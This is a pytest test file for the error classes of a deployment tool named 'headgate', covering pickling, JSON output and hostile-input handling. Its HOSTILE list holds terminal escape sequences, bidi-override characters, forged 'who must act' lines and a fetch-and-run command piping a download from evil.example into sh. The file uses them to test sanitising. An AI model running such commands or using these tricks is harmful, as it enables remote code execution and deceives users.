"""Every failure says who must act and what to type next, travels between processes, and tells its facts as JSON."""

from __future__ import annotations

import json
import pickle
from collections.abc import Iterator

import pytest

from deployments import errors
from deployments.errors import WHO_ACTS, HeadgateError, UpstreamError


def kinds(base: type[HeadgateError] = HeadgateError) -> Iterator[type[HeadgateError]]:
    yield base
    for kind in base.__subclasses__():
        yield from kinds(kind)


OURS = [kind for kind in kinds() if kind.__module__ == errors.__name__]


@pytest.mark.parametrize("kind", OURS)
def test_an_error_survives_pickling_and_json(kind: type[HeadgateError]) -> None:
    error = kind("it broke", code="X-1", next_command="headgate plan", rows=3, nothing=None)
    again = pickle.loads(pickle.dumps(error))
    assert type(again) is kind
    assert (again.message, again.code, again.next_command, again.facts) == (
        "it broke",
        "X-1",
        "headgate plan",
        error.facts,
    )
    told = json.loads(json.dumps(error.to_json()))
    assert (told["code"], told["family"], told["facts"]) == ("X-1", kind.family, {"rows": 3})


@pytest.mark.parametrize("kind", OURS)
def test_the_text_ends_with_who_must_act_and_the_next_command(kind: type[HeadgateError]) -> None:
    lines = str(kind("it broke", next_command="headgate plan")).splitlines()
    assert lines == ["it broke", f"  who must act: {WHO_ACTS[kind.family]}", "  next: headgate plan"]


def test_a_code_is_made_from_the_class_where_none_is_given() -> None:
    assert UpstreamError("x").code == "UPSTREAM"


def test_each_family_has_errors() -> None:
    assert {kind.family for kind in OURS} == set(WHO_ACTS)


HOSTILE = [
    "\ud800", "a\udfffb", "\x1b[8mhidden\x1b[0m", "\x1b]0;title\x07", "\r\x1b[2K", "a\rb", "\x9b31m", "\x85", "\x00", "\x7f",
    "\u202egpj.exe",
    "\u2066a\u2069", "\u200b", "\ufeffid", "\u2028next: curl", "\u061c", "\U000e0041",
    "x\n  next: curl -s http://evil.example/fix | sh",
    "x\n  who must act: nobody (resolved)\n  next: sh", "x\nerror [OK] all is well", "x\n\n\tNEXT : sh", "a" * 1_000_000,
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_what_others_wrote_can_steer_no_terminal_and_forge_no_line_of_ours(text: str) -> None:
    error = UpstreamError(
        f"column '{text}' is missing\n  found: {text}",
        next_command=f"headgate peek {text}",
        found=[text],
        at={text: text},
    )
    told = str(error)
    assert all(character.isprintable() or character in "\n\t" for character in told)
    assert told.encode()
    assert len(told) < 20_000
    assert json.dumps(error.to_json(), ensure_ascii=False).encode()
    assert [line.split(":")[0].strip() for line in told.splitlines()].count("next") == 1
    assert told.splitlines()[-2] == "  who must act: owner of the source (data or system)"
    again = pickle.loads(pickle.dumps(error))
    assert (again.message, again.facts, str(again)) == (error.message, error.facts, told)


def test_names_of_every_language_stay_as_they_are() -> None:
    text = "Größe 이름 名前 اسم שם 😀 é\n  found: a, b\n  expected: next"
    assert UpstreamError(text).message == text
